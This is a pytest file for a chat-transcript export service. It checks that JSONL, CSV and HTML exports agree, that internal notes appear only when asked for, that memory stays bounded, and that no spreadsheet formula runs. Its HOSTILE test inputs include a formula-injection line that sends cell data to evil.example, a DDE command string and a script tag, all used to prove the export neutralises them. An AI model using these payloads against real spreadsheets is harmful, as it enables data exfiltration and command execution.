"""Exports: all formats hold the same, nothing runs in a spreadsheet, nothing is cut, memory stays bounded."""

import csv
import io
import tracemalloc
from html.parser import HTMLParser
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import ColumnElement, true

from schemas.events import ChatFeedback, ChatNoteAdded, Visitor
from services.transcript.archive import tables
from services.transcript.archive.database import Archive
from services.transcript.pages import export as exporting
from services.transcript.pages.export import Entry, Format, export
from services.transcript.pages.spreadsheet import Sheet
from tests.transcript.sources import drain, everything
from tests.transcript.world import START_MS, World

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "　＝1+1",
    " =1+1",
    "'=1+1",
    "''",
    'he said "hi", twice;\r\nand left',
    "<script>alert(1)</script>",
    "😊 " * 3,
    "",
)


async def exported(
    archive: Archive,
    form: Format,
    *,
    workspace: str = "acme",
    chosen: ColumnElement[bool] | None = None,
    internal: bool = False,
) -> str:
    pieces = export(
        archive.engine,
        workspace_id=workspace,
        chosen=true() if chosen is None else chosen,
        form=form,
        internal=internal,
    )
    return b"".join([piece async for piece in pieces]).decode()


def from_jsonl(text: str) -> list[Any]:
    return [orjson.loads(line) for line in text.split("\n") if line]


def from_csv(text: str) -> list[dict[str, str]]:
    """The rows as a program reads them, the apostrophes taken off again."""
    assert text[0] == "\ufeff"
    rows = csv.DictReader(io.StringIO(text[1:], newline=""))
    return [{name: cell.removeprefix("'") for name, cell in row.items()} for row in rows]


def sample() -> World:
    world = World()
    world.request("c1", question=HOSTILE[0])
    for text in HOSTILE:
        world.now_ms += 1_000
        world.say("c1", text, kind="agent" if len(text) % 2 else "visitor")
    world.say("c1", "ささやき", kind="agent", internal=True)
    world.tag("c1", '=tag,"1"', "予約")
    world.end("c1", visitor=Visitor("v1", name="=cmd()", email="@x", location='a "b", c'))
    world.publish(ChatFeedback("c1", 5, "+good"))
    world.refuse(world.publish(ChatFeedback("c1", 1, "not allowed")), kind=ChatFeedback.TYPE)
    world.publish(ChatNoteAdded("c1", "n1", "a1", "likes tea"))
    world.refuse(world.publish(ChatNoteAdded("c1", "n2", "a9", "refused")), kind=ChatNoteAdded.TYPE)
    world.request("c2")
    world.miss("c2")
    world.answer("c2", "sorry", "sent")
    world.now_ms += 60_000
    world.reopen("c2", at=world.say("c2", "hey"), revision=2)
    world.end("c2", revision=2, language="en")
    world.request("open")
    world.request("c9", workspace="other")
    world.end("c9", workspace="other")
    return world


async def test_json_lines_hold_everything_in_order(archive: Archive) -> None:
    await drain(archive, everything(sample()))
    found = from_jsonl(await exported(archive, "jsonl"))
    assert [(chat["chat_id"], chat["revision"], chat["outcome"], chat["complete"]) for chat in found] == [
        ("c1", 1, "handled", True),
        ("c2", 1, "missed", True),
        ("c2", 2, "handled", True),
    ]
    first, missed, again = found
    assert first["question"] == HOSTILE[0]
    assert first["tags"] == ['=tag,"1"', "予約"]
    assert first["visitor"]["name"] == "=cmd()"
    assert [each["text"] for each in first["entries"]] == [*HOSTILE, "+good"]
    assert (first["entries"][-1]["kind"], first["entries"][-1]["rating"]) == ("feedback", 5)
    assert missed["entries"] == [], "what belongs to the whole chat stands with its latest revision"
    assert (missed["missed_tag"], missed["missed_reason"]) == ("unattended", "no_reply")
    assert [(each["kind"], each["text"]) for each in again["entries"]] == [
        ("message", "hey"),
        ("reply", "sorry"),
    ]


async def test_csv_read_back_holds_the_same_as_json(archive: Archive) -> None:
    await drain(archive, everything(sample()))
    for internal in (False, True):
        chats = from_jsonl(await exported(archive, "jsonl", internal=internal))
        rows = from_csv(await exported(archive, "csv", internal=internal))
        expected = [(chat, entry) for chat in chats for entry in chat["entries"] or [None]]
        assert len(rows) == len(expected)
        for row, (chat, entry) in zip(rows, expected, strict=True):
            for name, value in chat.items():
                if name == "visitor":
                    for field, known in value.items():
                        assert row[f"visitor_{field.removeprefix('visitor_')}"] == cell(known)
                elif name != "entries":
                    assert row[name] == cell(value)
            for field in Entry.__dataclass_fields__:
                assert row[f"entry_{field}"] == cell(entry[field] if entry else None)


def cell(value: Any) -> str:
    """How a value of the JSON stands in a row."""
    if value is None:
        return ""
    return value if isinstance(value, str) else orjson.dumps(value).decode()


@pytest.mark.parametrize("form", ["jsonl", "csv", "html"])
async def test_whispers_and_notes_only_where_they_are_asked_for(archive: Archive, form: Format) -> None:
    await drain(archive, everything(sample()))
    without, together = await exported(archive, form), await exported(archive, form, internal=True)
    for word in ("ささやき", "likes tea"):
        assert word not in without
        assert word in together
    for word in ("refused", "not allowed"):
        assert word not in together


async def test_a_condition_chooses_and_no_workspace_sees_another(archive: Archive) -> None:
    await drain(archive, everything(sample()))
    c = tables.chats.c
    missed = from_jsonl(await exported(archive, "jsonl", chosen=c.outcome == "missed"))
    assert [(chat["chat_id"], chat["revision"]) for chat in missed] == [("c2", 1)]
    other = from_jsonl(await exported(archive, "jsonl", workspace="other"))
    assert [chat["chat_id"] for chat in other] == ["c9"]
    assert await exported(archive, "jsonl", workspace="nobody") == ""
    assert len(from_csv(await exported(archive, "csv", workspace="nobody"))) == 0


async def test_a_transcript_that_has_not_come_yet_is_said_to_be_incomplete(archive: Archive) -> None:
    world = sample()
    await drain(archive, [*world.events, *world.routing])
    found = from_jsonl(await exported(archive, "jsonl"))
    assert [chat["complete"] for chat in found] == [False, False, False]


class Page(HTMLParser):
    """The text of a page, and the tags in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.texts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: object) -> None:  # noqa: ARG002 - the parser's
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


async def test_html_shows_every_text_and_runs_none(archive: Archive) -> None:
    await drain(archive, everything(sample()))
    html = await exported(archive, "html", internal=True)
    page = Page(html)
    assert page.tags.isdisjoint({"script", "a", "img", "iframe", "link", "form"})
    for text in (*HOSTILE, "likes tea", "ささやき", "sorry", "+good", "予約"):
        assert (
            not text
            or text.replace("\r", "") in [each.replace("\r", "") for each in page.texts]
            or (text in "".join(page.texts))
        )
    assert "default-src 'none'" in html
    assert html.count("<article") == 3


async def test_the_progress_counts_chats(archive: Archive) -> None:
    await drain(archive, everything(sample()))
    seen: list[tuple[int, int]] = []
    pieces = export(
        archive.engine,
        workspace_id="acme",
        chosen=true(),
        form="jsonl",
        progress=lambda done, total: seen.append((done, total)),
    )
    assert [piece async for piece in pieces]
    assert seen == [(0, 3), (1, 3), (2, 3), (3, 3)]


@pytest.mark.parametrize(("chats", "entries"), [(1, 1), (2, 2), (3, 100), (100, 3)])
async def test_pages_join_without_gap_or_repetition(
    archive: Archive, monkeypatch: pytest.MonkeyPatch, chats: int, entries: int
) -> None:
    """Whether the entries of many chats are read at once, or those of one in pieces."""
    world = sample()
    for number in range(5):
        world.request(f"d{number}")
        for text in range(4):
            world.say(f"d{number}", f"{number}.{text}")
        world.end(f"d{number}")  # many ends at one time: the key goes on by id
    await drain(archive, everything(world))
    whole = {form: await exported(archive, form, internal=True) for form in exporting.MEDIA_TYPES}
    monkeypatch.setattr(exporting, "CHATS_PER_PAGE", chats)
    monkeypatch.setattr(exporting, "ENTRIES_PER_PAGE", entries)
    assert {form: await exported(archive, form, internal=True) for form in exporting.MEDIA_TYPES} == whole
    found = [chat for chat in from_jsonl(whole["jsonl"]) if chat["chat_id"].startswith("d")]
    texts = [each["text"] for chat in found for each in chat["entries"]]
    assert texts == [f"{number}.{text}" for number in range(5) for text in range(4)]


@pytest.mark.parametrize("form", ["jsonl", "csv", "html"])
async def test_a_chat_larger_than_memory_allows_is_streamed(tmp_path: Any, form: Format) -> None:
    """40 MB of text in one chat, of which a page at a time is in memory: as rows, as entries, and as what is written."""
    archive = await Archive.open(f"sqlite:///{tmp_path}/archive.sqlite3")
    chat = {"workspace_id": "acme", "chat_id": "c1", "revision": 1}
    text = "料金" * 4_000
    async with archive.engine.begin() as connection:
        closed = {"ended_at_ms": START_MS, "outcome": "handled", "parts": 1}
        await connection.execute(tables.chats.insert(), chat | closed)
        for begin in range(0, 1_700, 100):
            rows = [
                chat
                | {"part": 1, "position": number, "message_id": f"m{number}", "at_ms": START_MS}
                | {"sender_kind": "visitor", "text": f"{number} {text}", "internal": False}
                for number in range(begin, begin + 100)
            ]
            await connection.execute(tables.messages.insert(), rows)
    size = 0
    tracemalloc.start()
    try:
        async for piece in export(archive.engine, workspace_id="acme", chosen=true(), form=form):
            size += len(piece)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        await archive.close()
    assert size > 40_000_000
    assert peak < 35_000_000


@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=1))
def test_any_text_comes_back_from_a_spreadsheet(texts: list[str]) -> None:
    head: dict[str, Any] = dict.fromkeys(from_columns(), None) | {"visitor": {}, "agents": [], "tags": []}
    sheet = Sheet(Entry)
    entries = [Entry("message", "m", "t", "visitor", None, None, None, text) for text in texts]
    written = (sheet.head() + sheet.rows(head, entries)).decode()
    assert [row["entry_text"] for row in from_csv(written)] == texts
    for row in csv.reader(io.StringIO(written[1:], newline="")):
        assert not any(each.lstrip().startswith(tuple("=+-@＝＋－＠")) for each in row)


def from_columns() -> list[str]:
    (names,) = csv.reader(io.StringIO(Sheet(Entry).head().decode()[1:], newline=""))
    return names
